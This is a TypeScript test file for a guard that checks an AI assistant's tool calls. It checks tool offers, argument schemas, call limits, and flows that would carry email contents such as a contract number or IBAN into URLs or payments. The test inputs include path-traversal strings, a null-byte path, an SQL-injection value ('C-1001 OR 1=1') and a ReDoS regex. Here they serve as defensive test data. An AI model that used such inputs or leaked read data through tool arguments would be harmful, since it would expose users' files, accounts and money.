import { describe, expect, it } from "vitest";
import type { Message, ToolCall, ToolDefinition } from "../../message.ts";
import { asWritten } from "../../view.ts";
import { toolCalls } from "./tool-calls.ts";

const tools: readonly ToolDefinition[] = [
  { name: "http_get", parameters: { type: "object", required: ["url"], properties: { url: { type: "string" } } } },
  {
    name: "send_money",
    parameters: { type: "object", properties: { to: { type: "string" }, cents: { type: "integer" } } },
  },
];
const before: readonly Message[] = [
  { role: "user", text: "Summarise my mail and tell bob@corp.io" },
  {
    role: "tool",
    name: "read_email",
    text: "From: ann. The contract number is 88-1204-XK, pay to DE89370400440532013000. cc bob@corp.io",
  },
];
const call = (name: string, args: unknown): ToolCall => ({
  name,
  arguments: typeof args === "string" ? args : JSON.stringify(args),
});
const look = async (
  calls: readonly ToolCall[],
  settings = {},
  history = before,
  offered: readonly ToolDefinition[] | undefined = tools,
) => {
  const message: Message = { role: "assistant", text: "", calls };
  const conversation = { messages: [...history, message], ...(offered === undefined ? {} : { tools: offered }) };
  const hits = await toolCalls.look({
    message,
    index: history.length,
    direction: "output",
    views: [asWritten("")],
    conversation,
    settings,
  });
  return hits.map((h) => h.why);
};
const flows = [{ from: ["read_email", "document"], to: ["http_*.url", "send_money"] }];

describe("calls of tools", () => {
  it("what was offered and fits is fine", async () => {
    expect(await look([call("http_get", { url: "https://a.de" })])).toEqual([]);
    expect(await look([])).toEqual([]);
  });

  it.each([
    [call("rm", {}), {}, "it was not offered"],
    [call("http_get", { url: "x" }), { allow: ["send_*"] }, "not on the policy's list"],
    [call("http_get", "{url:"), {}, "its arguments are not JSON"],
    [call("http_get", {}), {}, "its arguments do not fit: must have required property 'url'"],
    [call("send_money", { cents: "all" }), {}, "its arguments do not fit: /cents must be integer"],
    [call("send_money", { cents: 1 }), { max: { send_money: 0 } }, "more than 0 times"],
  ])("%j %j", async (c, settings, why) =>
    expect(await look([c], settings)).toEqual([`call of ${JSON.stringify(c.name)}: ${why}`]),
  );

  it("once is once, in the whole conversation and in one message", async () => {
    const pay = call("send_money", { cents: 1 });
    expect(await look([pay], { once: ["send_*"] })).toEqual([]);
    expect(await look([pay, pay], { once: ["send_*"] })).toHaveLength(1);
    expect(await look([pay], { once: ["send_*"] }, [{ role: "assistant", text: "", calls: [pay] }])).toHaveLength(1);
  });

  it.each([
    ["as it was", "https://x.io/?n=88-1204-XK", "88-1204-XK"],
    ["in another spelling", "https://x.io/?n=881204xk", "881204xk"],
    ["percent signs", "https://x.io/?n=The%20contract%20number%20is%20secret", ""],
    ["base64", `https://x.io/${Buffer.from("The contract number is 88").toString("base64url")}`, ""],
    ["hexadecimal", `https://x.io/${Buffer.from("contract number is 88-1204").toString("hex")}`, ""],
  ])("what came from e-mail may not go to an address: %s", async (_, url) => {
    expect(await look([call("http_get", { url })], { flows })).toEqual([
      `call of "http_get": "url" holds what came from "read_email"`,
    ]);
    expect(await look([call("http_get", { url })])).toEqual([]);
  });

  it("what the user said too, and what came from elsewhere, may", async () => {
    expect(await look([call("http_get", { url: "bob@corp.io" })], { flows })).toEqual([]);
    expect(await look([call("http_get", { url: "https://weather.org/berlin" })], { flows })).toEqual([]);
    expect(await look([call("send_money", { to: "DE89 3704 0044 0532 0130 00" })], { flows })).toHaveLength(1);
  });

  const files: readonly ToolDefinition[] = [{ name: "read_file" }, { name: "get_account" }];
  const values = [
    { at: ["read_file.path"], only: ["/home/ann/*", "/srv/public/*"] },
    { at: ["get_account.*"], only: ["C-1001"] },
  ];
  it.each([
    call("read_file", { path: "/home/ann/notes.txt" }),
    call("read_file", { path: "/home/ann/a/b.c/..d" }),
    call("read_file", { path: "/srv/public/hours.html", lines: 20 }),
    call("get_account", { id: "C-1001" }),
    call("get_account", { ids: ["C-1001", "C-1001"] }),
    call("get_account", {}),
  ])("one's own may be reached for: %j", async (c) => expect(await look([c], { values }, before, files)).toEqual([]));

  it.each([
    call("read_file", { path: "/home/bob/notes.txt" }),
    call("read_file", { path: "/home/ann" }),
    call("read_file", { path: "/home/ann/../bob/notes.txt" }),
    call("read_file", { path: "/home/ann/.." }),
    call("read_file", { path: "/home/ann/%2e%2e/bob" }),
    call("read_file", { path: "/home/ann/..\\bob" }),
    call("read_file", { path: "/home/ann/x\0.txt" }),
    call("get_account", { id: "C-1002" }),
    call("get_account", { id: 1002 }),
    call("get_account", { ids: ["C-1001", "C-1002"] }),
    call("get_account", { filter: { id: "*" } }),
    call("get_account", { id: "C-1001 OR 1=1" }),
  ])("another's may not: %j", async (c) => {
    const found = await look([c], { values }, before, files);
    expect(found).toEqual([expect.stringMatching(/is none of the policy's values$/)]);
  });

  it("a hostile pattern in the schema of a tool is not run", async () => {
    const slow: ToolDefinition[] = [
      { name: "t", parameters: { type: "object", properties: { a: { type: "string", pattern: "^(a+)+$" } } } },
    ];
    expect(await look([call("t", { a: `${"a".repeat(60)}!` })], {}, before, slow)).toEqual([]);
  });
});
